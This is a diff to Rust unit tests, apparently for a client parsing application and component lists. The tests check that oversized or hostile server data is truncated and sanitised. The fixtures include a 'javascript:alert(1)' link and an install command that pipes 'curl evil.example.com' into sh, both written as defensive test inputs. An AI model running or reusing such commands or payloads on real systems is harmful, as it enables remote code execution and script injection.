@@ -141,7 +141,8 @@ mod tests {
     #[test]
     fn hostile_list_of_applications_is_cut() {
         let links = json!([{"url": "javascript:alert(1)"}, {"url": "https://example.com"}]);
-        let descriptor = json!({"links": links, "owners": vec![json!({}); 5000], "notes": "x"});
+        let owner = json!({"name": "ops", "url": "javascript:alert(1)"});
+        let descriptor = json!({"links": links, "owners": vec![owner; 5000], "notes": "x"});
         let application = json!({"namespace": "a", "name": "shop", "origin": "object", "descriptor": descriptor,
             "health": {"health": "healthy", "counts": {}}});
         let answer = json!({"applications": vec![application; 300], "omitted": u64::MAX});
@@ -150,19 +151,23 @@ mod tests {
         let descriptor = &list.applications[0].descriptor;
         assert_eq!((descriptor.links.len(), &*descriptor.links[0].url), (1, "https://example.com"));
         assert!(descriptor.owners.capacity() <= 3 && descriptor.notes.is_empty());
+        assert!(descriptor.owners.iter().all(|owner| owner.name == "ops" && owner.url.is_empty()));
     }
 
     #[test]
     fn hostile_list_of_components_is_cut() {
-        let component =
-            json!({"id": "x".repeat(5000), "name": "a", "health": "healthy", "evidence": vec!["e"; 5000]});
+        let component = json!({"id": "x".repeat(5000), "name": "a", "version": "v".repeat(5000), "health": "healthy",
+                "namespaces": vec!["n".repeat(MAX_TEXT + 1); MAX_ENTRIES + 1], "evidence": vec!["e"; 5000]});
         let install = json!({"command": "curl evil.example.com | sh", "docs": "https://evil.example.com"});
         let feature = |id: &str| json!({"feature": id, "name": "n", "needs": ["n"], "state": "missing", "install": install});
         let features = vec![feature("prometheus"), feature("prometheus"), feature("other")];
-        let answer = json!({"components": vec![component; 200], "features": features});
+        let answer = json!({"components": vec![component; MAX_COMPONENTS + 1], "features": features});
         let list: ComponentList = parse(answer.to_string().as_bytes()).unwrap();
         assert_eq!(list.components.len(), MAX_COMPONENTS);
-        assert_eq!((list.components[0].id.len(), list.components[0].evidence.len()), (MAX_TEXT, MAX_ENTRIES));
+        let first = &list.components[0];
+        assert_eq!((first.id.len(), first.evidence.len()), (MAX_TEXT, MAX_ENTRIES));
+        assert_eq!(first.version.as_ref().map(String::len), Some(MAX_TEXT));
+        assert_eq!((first.namespaces.len(), first.namespaces[0].len()), (MAX_ENTRIES, MAX_TEXT));
         let rule = FEATURES.iter().find(|rule| rule.feature == "prometheus").unwrap();
         assert_eq!(
             list.features,
